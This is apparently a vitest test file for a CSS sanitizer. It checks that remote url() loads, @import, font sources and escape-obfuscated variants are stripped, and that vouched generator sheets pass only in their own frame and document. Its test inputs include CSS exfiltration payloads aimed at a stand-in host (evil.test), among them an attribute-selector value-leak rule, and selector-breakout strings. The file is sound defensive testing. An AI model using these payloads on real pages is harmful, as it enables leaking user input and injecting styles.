import { describe, expect, test } from 'vitest';
import { english } from '../../../../../core/platform/messages/messages.ts';
import { UNNAMED, vouch } from '../../../../../core/style/safe-css/vouched-sheets.ts';
import { highlightCss } from '../../../../../core/style/sheets/highlight-css.ts';
import { fakeGate } from '../../../../fakes/fake-gate.ts';

/** A sheet that the generator has written for a document. */
const made = (css: string, frame = 0, document = UNNAMED) =>
  vouch({ frame, scope: 0, css }, document);

const inMain = (css: string) => ({ frame: 0, css });

const problemsOf = async (css: string) => {
  const { problems } = await fakeGate().check(css, 0);
  return problems.map(({ line, message }) => `${line}: ${message}`);
};

test.each([
  '@layer a, b; @layer a { body { color: red !important } }',
  '.a { .b & { color: light-dark(#fff, #000) } &:hover { color: oklch(0.5 0.1 20) } }',
  '@container (width > 30em) { a { color: color-mix(in oklab, red, blue 20%) } }',
  'a { background: url(data:image/png;base64,AAAA) } b { fill: url(#gradient) }',
  '@property --x { syntax: "<color>"; inherits: true; initial-value: #fff }',
  'a { color: var(--text, #eee); border: 1px solid var(--line); --line: color-mix(in srgb, red, blue) }',
  '@keyframes pulse { from { color: red } to { color: var(--x) } }',
  '',
])('nothing is left out of %s', async (css) => {
  expect(await problemsOf(css)).toEqual([]);
});

test('H4: a broken text is told by line and column', async () => {
  const { css, problems } = await fakeGate().check('a { color: red }\nb { color: ', 0);

  expect(css).toBe('');
  expect(problems).toMatchObject([
    { severity: 'error', line: 2, column: 1, message: 'Unclosed block.' },
  ]);
});

test('E8: what is left out is told of at its line, and the rest stays', async () => {
  const { css, problems } = await fakeGate().check(
    'a { color: red }\n\nb {\n  color: blue;\n  background: url(https://evil.test/x) red;\n  top: 0\n}',
    0,
  );

  expect(css).toBe('a {\n  color: red;\n}\nb {\n  color: blue;\n  top: 0;\n}\n');
  expect(problems).toMatchObject([{ severity: 'warning', line: 5, column: 3, endLine: 5 }]);
  expect(problems[0]?.message).toEqual(
    'url(https://evil.test/x) is blocked: it would load something from elsewhere. Use a data: image.',
  );
});

test.each([
  ['a { background: var(--x) }', 'Use background-color instead.'],
  ['a { background-image: env(x, url(https://evil.test/)) }', 'Use background-color instead.'],
  ['a { list-style: attr(x) }', 'Use list-style-type instead.'],
  ['a { cursor: if(style(--x: 1): none; else: auto) }', 'Write the value itself.'],
  ['a { color: --f(1) }', 'a custom function'],
  ['a { --x: "https://evil.test/" }', 'Text in quotes'],
  ['a { --x: url(https://evil.test/) }', 'is blocked'],
  ['a { color: paint(x) }', 'paint() is blocked'],
  ['a { unheard-of: 1 }', 'unheard-of is blocked'],
  ['a { --x: \\75rl(https://evil.test/) }', 'is blocked'],
  ['@import "https://evil.test/x.css";', '@import is blocked'],
  ['@i\\6dport url(x.css);', '@import is blocked'],
  ['@font-face { font-family: x; src: url(https://evil.test/) }', '@font-face is blocked'],
  ['@page { margin: 0 }', '@page is left out'],
  ['@property --x { syntax: "<url>"; inherits: true; initial-value: url(x) }', 'syntax'],
  ['@property --x { syntax: "*"; inherits: true; initial-value: "x" }', 'Text in quotes'],
])('E8: %s', async (css, said) => {
  const { css: left, problems } = await fakeGate().check(css, 0);

  expect(left).not.toMatch(/evil|var\(|env\(|paint/);
  expect(problems.map(({ message }) => english(message)).join('\n')).toContain(said);
});

test('what the generator has written passes byte by byte, and at its place alone', async () => {
  const gate = fakeGate();
  const rule = 'b { background-image: var(--a), url(https://site.test/a.png) !important; }';
  const text = `@layer page {\n${rule}\n}\n`;
  gate.trust(made(text));

  expect((await gate.check(text, 0)).css).toBe(text);
  const edited = await gate.check(`${text}c { color: red }`, 0);
  expect(edited.css).toContain(rule);
  expect(edited.problems).toEqual([]);
  const elsewhere = await gate.check(
    `@media print { ${rule} }\n${rule.replace('b {', 'b:hover {')}`,
    0,
  );
  expect(elsewhere.css).not.toContain('site.test');
  expect(elsewhere.problems).toHaveLength(2);
});

test('a color that is changed beside an address of the generator loses nothing', async () => {
  const gate = fakeGate();
  gate.trust(made('b { background-image: url("https://site.test/a.png"); color: red; }'));

  const { css, problems } = await gate.check(
    'b { background-image: url("https://site.test/a.png"); color: blue; }',
    0,
  );

  expect(problems).toEqual([]);
  expect(css).toContain('site.test');
  expect(css).toContain('color: blue');
});

test('a rule that is typed in is read alone: the others are as they were', async () => {
  const rules = Array.from({ length: 200 }, (_, at) => `.r${at} { color: rgb(${at}, 0, 0) }`);
  let parsed = 0;
  const gate = fakeGate({ parsed: () => parsed++ });
  await gate.check(rules.join('\n'), 0);
  const first = parsed;
  await gate.check([...rules, '.new { color: red }'].join('\n'), 0);

  expect(parsed - first).toBeLessThan(first / 50);
});

test.each([
  'a { } b { background: url(//evil.test) } c',
  'a, b { background: url(//evil.test) } c',
  '} @import "//evil.test"; a',
  'a[b="\n{ background: url(//evil.test) }',
])('E8: what is more than a selector is not highlighted: %j', async (selector) => {
  const [problems] = await fakeGate().problems([inMain(highlightCss(selector))]);

  expect(problems).not.toEqual([]);
});

test('a selector is highlighted whatever it names', async () => {
  const selectors = ['a:hover > .b::before', '[x="y;{"]', ':is(a, b) ~ c', '.a\\:b'];
  const all = await fakeGate().problems(selectors.map(highlightCss).map(inMain));

  expect(all.flat()).toEqual([]);
});

test('E8: of a page with many frames and shadow roots, every sheet of the generator passes', async () => {
  const gate = fakeGate();
  const texts = Array.from(
    { length: 60 },
    (_, at) => `.s${at} { background-image: url("https://cdn.test/${at}.png"); }`,
  );
  for (const text of texts) gate.trust(made(text));
  const edited = texts.map((text) => text.replace('}', 'color: red; }'));

  expect((await gate.problems([...texts, ...edited].map(inMain))).flat()).toEqual([]);
});

describe('what the generator has written for one document', () => {
  const rule = 'b[value^="a"] { background-image: url("https://evil.test/a"); color: red; }';
  const edited = `${rule}\nc { color: blue }`;
  const changed = rule.replace('red', 'blue');

  test('E8: is refused in another frame, whole, as a rule and as a declaration', async () => {
    const gate = fakeGate();
    gate.trust(made(rule, 3));
    for (const text of [rule, edited, changed]) {
      expect((await gate.check(text, 3)).css).toContain('evil.test');
      expect((await gate.check(text, 0)).css).not.toContain('evil.test');
      expect((await gate.check(text, null)).css).not.toContain('evil.test');
      expect((await gate.check(text, 3)).css).toContain('evil.test');
    }
  });

  test('E8: is refused in the next document of the same frame, and when one comes back', async () => {
    let document: string | null = 'A';
    const gate = fakeGate({ documents: () => document });
    const sheet = made(rule, 0, 'A');
    gate.trust(sheet);
    expect((await gate.check(edited, 0)).css).toContain('evil.test');
    expect(await gate.pass([sheet])).toEqual([sheet]);

    for (const next of ['B', null, 'A']) {
      document = next;
      for (const text of [rule, edited, changed]) {
        expect((await gate.check(text, 0)).css).not.toContain('evil.test');
      }
    }
    document = 'B';
    expect((await gate.pass([sheet]))[0]?.css).not.toContain('evil.test');
    gate.trust(sheet);
    expect((await gate.check(edited, 0)).css).not.toContain('evil.test');
  });

  test('E8: what has passed in one document is checked again for the next', async () => {
    let document = 'A';
    const gate = fakeGate({ documents: () => document });
    gate.trust(made(rule, 0, 'A'));
    const [passed = made('')] = await gate.pass([{ frame: 0, scope: 0, css: edited }]);
    expect(passed.css).toContain('evil.test');

    document = 'B';
    const [again] = await gate.pass([passed]);
    expect(again?.css).not.toContain('evil.test');
    expect(again?.css).toContain('color: blue');
  });

  test('E8: is not trusted when nobody vouches for it', async () => {
    const gate = fakeGate();
    gate.trust({ frame: 0, scope: 0, css: rule });

    expect((await gate.check(rule, 0)).css).not.toContain('evil.test');
  });
});
